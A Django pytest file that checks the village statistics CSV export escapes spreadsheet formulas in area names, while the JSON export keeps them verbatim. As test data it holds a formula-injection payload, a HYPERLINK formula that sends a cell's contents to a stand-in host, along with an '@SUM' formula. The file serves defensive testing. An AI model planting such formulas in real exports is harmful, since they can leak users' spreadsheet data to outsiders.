"""A dusun named like a spreadsheet formula comes out of the public statistics CSV as text:
opened in Excel it shows, it does not run. The JSON keeps the name exactly; neither download
is personal, so both may be cached."""

from __future__ import annotations

import csv
import io
import json

from django.utils import timezone

from balai.population.figures import figures_recompute
from balai.population.models import Area, Family, Resident

FORMULA = '=HYPERLINK("http://x/?"&A2)'


def _register(village) -> None:
    born = timezone.localdate().replace(year=1980)
    for n, (dusun, rt) in enumerate([(FORMULA, "1"), ("@SUM(A1:A9)", "2"), ("Dusun I", "-3")]):
        area = Area.objects.create(village=village, dusun=dusun, rw="1", rt=rt)
        family = Family.objects.create(village=village, number=f"33030901011{n:05d}", area=area)
        for i in range(6):
            Resident.objects.create(
                village=village,
                nik=f"330309120375{n}{i:03d}",
                name=f"WARGA {n}-{i}",
                family=family,
                area=area,
                sex=1 + i % 2,
                family_relation=1 if i == 0 else 4,
                birth_date=born,
            )
    figures_recompute(village=village)


def _csv(response) -> list[list[str]]:
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")  # Excel reads the file as UTF-8
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))


def test_a_formula_dusun_name_is_text_in_the_statistics_csv(client, dagan):
    _register(dagan)
    response = client.get("/desa/dagan/statistik/dusun/data.csv")
    rows = _csv(response)
    labels = [row[0] for row in rows]
    assert "'" + FORMULA in labels and FORMULA not in labels
    assert "'@SUM(A1:A9)" in labels
    assert ["Total", "9", "9", "18"] in rows  # counts stay numbers
    rt_labels = [row[0] for row in _csv(client.get("/desa/dagan/statistik/rt/data.csv"))]
    assert "Dusun I / RW 1 / RT -3" in rt_labels  # text that starts otherwise is untouched
    assert "no-store" not in response.get("Cache-Control", "")


def test_the_json_download_keeps_the_name_exactly(client, dagan):
    _register(dagan)
    data = json.loads(client.get("/desa/dagan/statistik/dusun/data.json").content)
    assert FORMULA in [row["label"] for row in data["baris"]]
